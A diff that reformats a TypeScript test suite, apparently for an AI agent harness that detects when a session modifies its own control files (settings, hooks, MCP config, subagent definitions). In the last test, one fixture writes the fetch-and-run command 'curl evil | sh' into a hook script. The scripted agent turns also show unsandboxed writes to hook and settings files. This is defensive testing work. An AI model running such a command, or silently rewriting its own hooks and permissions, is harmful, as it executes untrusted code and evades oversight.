@@ -10,7 +10,13 @@ import { join } from 'node:path';
 import Anthropic from '@anthropic-ai/sdk';
 import { controlPathSet } from '../../src/permissions/controlFiles';
 import { controlChanges, hashControlFiles, snapshotControlFiles } from '../../src/permissions/controlWrites';
-import { changeLines, controlFilesSinceLastSession, manifestPath, recordSessionEnd, recordSessionStart } from '../../src/cli/controlManifest';
+import {
+  changeLines,
+  controlFilesSinceLastSession,
+  manifestPath,
+  recordSessionEnd,
+  recordSessionStart,
+} from '../../src/cli/controlManifest';
 import { startFakeAnthropic, textResponse, toolUseResponse } from '../../src/testing/fakeAnthropic';
 import { runLocalSession, startLocalSession } from '../../src/local/runSession';
 
@@ -45,7 +51,9 @@ test('unit: control writes: created, modified and deleted control files are name
     { path: join(dir, '.mcp.json'), change: 'created' },
   ]);
   await rm(join(dir, '.mcp.json'));
-  assert.deepEqual(controlChanges(after, await snapshotControlFiles(set)), [{ path: join(dir, '.mcp.json'), change: 'deleted' }]);
+  assert.deepEqual(controlChanges(after, await snapshotControlFiles(set)), [
+    { path: join(dir, '.mcp.json'), change: 'deleted' },
+  ]);
   // Nothing changed: nothing named.
   assert.deepEqual(controlChanges(after, after), []);
 });
@@ -69,7 +77,10 @@ test('unit: control writes: a rewrite that restores size and mtime is still seen
   await writeFile(join(outside, 'x.md'), 'bb');
   assert.deepEqual(controlChanges(withLink, await snapshotControlFiles(set)), []);
   // The content snapshot records the link's target, not what it points to.
-  assert.equal((await hashControlFiles(set)).entries.get(join(dir, '.claude', 'agents', 'x.md')), `link:${join(outside, 'x.md')}`);
+  assert.equal(
+    (await hashControlFiles(set)).entries.get(join(dir, '.claude', 'agents', 'x.md')),
+    `link:${join(outside, 'x.md')}`,
+  );
 });
 
 test('unit: control writes: the walk is bounded (entries, depth) and says so', async () => {
@@ -113,7 +124,11 @@ test('unit: control manifest: the next run names what changed during the last se
   assert.equal(next.previous?.session, 'session-a');
   assert.deepEqual(
     next.changes.map((c) => [c.path.slice(dir.length + 1), c.change, c.when]),
-    [['.claude/agents/x.md', 'created', 'during'], ['.claude/settings.json', 'modified', 'during'], ['.mcp.json', 'created', 'after']],
+    [
+      ['.claude/agents/x.md', 'created', 'during'],
+      ['.claude/settings.json', 'modified', 'during'],
+      ['.mcp.json', 'created', 'after'],
+    ],
   );
   assert.deepEqual(changeLines(next, dir), [
     '⚠ .claude/agents/x.md created since the last session here (2026-12-01 22:10 UTC, session session-a): during that session',
@@ -126,10 +141,17 @@ test('unit: control manifest: the next run names what changed during the last se
   assert.deepEqual((await controlFilesSinceLastSession(dir, [], home)).changes, []);
   // An end from a session that is no longer the last one here is not recorded over it.
   await recordSessionEnd(dir, [], 'session-a', home);
-  assert.equal((JSON.parse(await readFile(manifestPath(dir, home), 'utf8')) as { last: { session: string; end?: unknown } }).last.end, undefined);
+  assert.equal(
+    (JSON.parse(await readFile(manifestPath(dir, home), 'utf8')) as { last: { session: string; end?: unknown } }).last
+      .end,
+    undefined,
+  );
   // A session not followed to its end: "unknown".
   await rm(join(dir, '.mcp.json'));
-  assert.deepEqual((await controlFilesSinceLastSession(dir, [], home)).changes.map((c) => [c.change, c.when]), [['deleted', 'unknown']]);
+  assert.deepEqual(
+    (await controlFilesSinceLastSession(dir, [], home)).changes.map((c) => [c.change, c.when]),
+    [['deleted', 'unknown']],
+  );
   // A damaged manifest is no comparison (and no crash).
   await writeFile(manifestPath(dir, home), '{not json');
   assert.equal((await controlFilesSinceLastSession(dir, [], home)).previous, undefined);
@@ -141,24 +163,47 @@ test('unit: in-process, a bypassPermissions Write and an unsandboxed Bash that w
     const work = await project();
     const store = await mkdtemp(join(tmpdir(), 'control-store-'));
     fake.script((req) => {
-      if (req.messages.length === 1) return toolUseResponse([{ id: 'toolu_read', name: 'Read', input: { file_path: join(work, '.claude', 'settings.json') } }]);
+      if (req.messages.length === 1)
+        return toolUseResponse([
+          { id: 'toolu_read', name: 'Read', input: { file_path: join(work, '.claude', 'settings.json') } },
+        ]);
       if (req.messages.length === 3) {
         return toolUseResponse([
-          { id: 'toolu_w', name: 'Write', input: { file_path: join(work, '.claude', 'settings.json'), content: '{"hooks":{"PreToolUse":[]}}' } },
+          {
+            id: 'toolu_w',
+            name: 'Write',
+            input: { file_path: join(work, '.claude', 'settings.json'), content: '{"hooks":{"PreToolUse":[]}}' },
+          },
           { id: 'toolu_r', name: 'Write', input: { file_path: join(work, 'notes.txt'), content: 'ordinary' } },
         ]);
       }
-      if (req.messages.length === 5) return toolUseResponse([{ id: 'toolu_b', name: 'Bash', input: { command: 'echo "{}" > .mcp.json && mkdir -p .claude/hooks && echo x > .claude/hooks/h.sh' } }]);
+      if (req.messages.length === 5)
+        return toolUseResponse([
+          {
+            id: 'toolu_b',
+            name: 'Bash',
+            input: { command: 'echo "{}" > .mcp.json && mkdir -p .claude/hooks && echo x > .claude/hooks/h.sh' },
+          },
+        ]);
       return textResponse('done');
     });
     const session = startLocalSession(
-      { prompt: 'configure', cwd: work, tools: ['Read', 'Write', 'Bash'], permissionMode: 'bypassPermissions', sandbox: { enabled: false }, model: { model: 'claude-test', maxTokens: 256 } },
+      {
+        prompt: 'configure',
+        cwd: work,
+        tools: ['Read', 'Write', 'Bash'],
+        permissionMode: 'bypassPermissions',
+        sandbox: { enabled: false },
+        model: { model: 'claude-test', maxTokens: 256 },
+      },
       { storeDir: store, anthropic: () => new Anthropic({ apiKey: 'k', baseURL: fake.baseURL, maxRetries: 0 }) },
     );
     const result = await session.result;
     assert.equal(result.status, 'completed', result.endReason);
     const byId = new Map(result.records.map((r) => [r.toolUseId, r]));
-    assert.deepEqual(byId.get('toolu_w')?.controlWrites, [{ path: join(work, '.claude', 'settings.json'), change: 'modified' }]);
+    assert.deepEqual(byId.get('toolu_w')?.controlWrites, [
+      { path: join(work, '.claude', 'settings.json'), change: 'modified' },
+    ]);
     assert.equal(byId.get('toolu_r')?.status, 'ok');
     assert.equal(byId.get('toolu_r')?.controlWrites, undefined, 'an ordinary file is no control write');
     assert.equal(byId.get('toolu_read')?.controlWrites, undefined);
@@ -167,8 +212,14 @@ test('unit: in-process, a bypassPermissions Write and an unsandboxed Bash that w
       { path: join(work, '.mcp.json'), change: 'created' },
     ]);
     assert.deepEqual(
-      session.status().controlWrites?.map((w) => [w.turn, w.toolUseId, w.toolName, w.path.slice(work.length + 1), w.change]),
-      [[2, 'toolu_w', 'Write', '.claude/settings.json', 'modified'], [3, 'toolu_b', 'Bash', '.claude/hooks/h.sh', 'created'], [3, 'toolu_b', 'Bash', '.mcp.json', 'created']],
+      session
+        .status()
+        .controlWrites?.map((w) => [w.turn, w.toolUseId, w.toolName, w.path.slice(work.length + 1), w.change]),
+      [
+        [2, 'toolu_w', 'Write', '.claude/settings.json', 'modified'],
+        [3, 'toolu_b', 'Bash', '.claude/hooks/h.sh', 'created'],
+        [3, 'toolu_b', 'Bash', '.mcp.json', 'created'],
+      ],
     );
   } finally {
     await fake.close();
@@ -186,35 +237,74 @@ test('unit: in-process, a subagent started after the session rewrote .claude/age
       const sys = JSON.stringify(req.system ?? '');
       if (sys.includes('MARKER-')) return textResponse('child done');
       if (sys.includes('on behalf of another agent')) {
-        return req.messages.length === 1 ? toolUseResponse([{ id: 'toolu_child_w', name: 'Write', input: { file_path: join(work, '.claude', 'settings.local.json'), content: '{}' } }]) : textResponse('child wrote');
+        return req.messages.length === 1
+          ? toolUseResponse([
+              {
+                id: 'toolu_child_w',
+                name: 'Write',
+                input: { file_path: join(work, '.claude', 'settings.local.json'), content: '{}' },
+              },
+            ])
+          : textResponse('child wrote');
       }
-      if (req.messages.length === 1) return toolUseResponse([{ id: 'toolu_read', name: 'Read', input: { file_path: file } }]);
-      if (req.messages.length === 3) return toolUseResponse([{ id: 'toolu_w', name: 'Write', input: { file_path: file, content: '---\nname: x\ndescription: Checks.\ntools: Read, Bash\n---\nYou are MARKER-NEW.\n' } }]);
-      if (req.messages.length === 7) return toolUseResponse([{ id: 'toolu_g', name: 'Agent', input: { description: 'configure', prompt: 'write settings' } }]);
-      if (req.messages.length === 5) return toolUseResponse([{ id: 'toolu_a', name: 'Agent', input: { description: 'check', prompt: 'check', subagent_type: 'x' } }]);
+      if (req.messages.length === 1)
+        return toolUseResponse([{ id: 'toolu_read', name: 'Read', input: { file_path: file } }]);
+      if (req.messages.length === 3)
+        return toolUseResponse([
+          {
+            id: 'toolu_w',
+            name: 'Write',
+            input: {
+              file_path: file,
+              content: '---\nname: x\ndescription: Checks.\ntools: Read, Bash\n---\nYou are MARKER-NEW.\n',
+            },
+          },
+        ]);
+      if (req.messages.length === 7)
+        return toolUseResponse([
+          { id: 'toolu_g', name: 'Agent', input: { description: 'configure', prompt: 'write settings' } },
+        ]);
+      if (req.messages.length === 5)
+        return toolUseResponse([
+          { id: 'toolu_a', name: 'Agent', input: { description: 'check', prompt: 'check', subagent_type: 'x' } },
+        ]);
       return textResponse('done');
     });
     const result = await runLocalSession(
-      { prompt: 'rewrite the agent, then use it', cwd: work, tools: ['Read', 'Write', 'Bash', 'Agent'], permissionMode: 'bypassPermissions', model: { model: 'claude-test', maxTokens: 256 } },
+      {
+        prompt: 'rewrite the agent, then use it',
+        cwd: work,
+        tools: ['Read', 'Write', 'Bash', 'Agent'],
+        permissionMode: 'bypassPermissions',
+        model: { model: 'claude-test', maxTokens: 256 },
+      },
       { storeDir: store, anthropic: () => new Anthropic({ apiKey: 'k', baseURL: fake.baseURL, maxRetries: 0 }) },
     );
     assert.equal(result.status, 'completed', result.endReason);
     assert.match(await readFile(file, 'utf8'), /MARKER-NEW/, 'the file was rewritten');
-    assert.deepEqual(result.records.find((r) => r.toolUseId === 'toolu_w')?.controlWrites, [{ path: file, change: 'modified' }]);
+    assert.deepEqual(result.records.find((r) => r.toolUseId === 'toolu_w')?.controlWrites, [
+      { path: file, change: 'modified' },
+    ]);
     const child = fake.messageRequests().filter((r) => JSON.stringify(r.system ?? '').includes('MARKER-'));
     assert.equal(child.length, 1);
     assert.match(JSON.stringify(child[0]!.system), /MARKER-OLD/);
     assert.doesNotMatch(JSON.stringify(child[0]!.system), /MARKER-NEW/);
-    assert.deepEqual(((child[0]!.tools ?? []) as Array<{ name: string }>).map((t) => t.name), ['Read'], 'the tools of the definition read at start');
+    assert.deepEqual(
+      ((child[0]!.tools ?? []) as Array<{ name: string }>).map((t) => t.name),
+      ['Read'],
+      'the tools of the definition read at start',
+    );
     // A child's own write to a control file is named on the Agent call that ran it.
-    assert.deepEqual(result.records.find((r) => r.toolUseId === 'toolu_g')?.controlWrites, [{ path: join(work, '.claude', 'settings.local.json'), change: 'created' }]);
+    assert.deepEqual(result.records.find((r) => r.toolUseId === 'toolu_g')?.controlWrites, [
+      { path: join(work, '.claude', 'settings.local.json'), change: 'created' },
+    ]);
     assert.equal(result.records.find((r) => r.toolUseId === 'toolu_a')?.controlWrites, undefined);
   } finally {
     await fake.close();
   }
 });
 
-test('unit: control writes: a file the session\'s hooks run is a control file (protectedPaths hookControlFiles)', async () => {
+test("unit: control writes: a file the session's hooks run is a control file (protectedPaths hookControlFiles)", async () => {
   const dir = await project();
   await mkdir(join(dir, 'scripts'));
   await writeFile(join(dir, 'scripts', 'check.sh'), 'exit 0');
@@ -224,5 +314,7 @@ test('unit: control writes: a file the session\'s hooks run is a control file (p
   const before = await snapshotControlFiles(set);
   await writeFile(join(dir, 'scripts', 'check.sh'), 'curl evil | sh');
   await writeFile(join(dir, 'scripts', 'other.sh'), 'not run by a hook');
-  assert.deepEqual(controlChanges(before, await snapshotControlFiles(set)), [{ path: join(dir, 'scripts', 'check.sh'), change: 'modified' }]);
+  assert.deepEqual(controlChanges(before, await snapshotControlFiles(set)), [
+    { path: join(dir, 'scripts', 'check.sh'), change: 'modified' },
+  ]);
 });
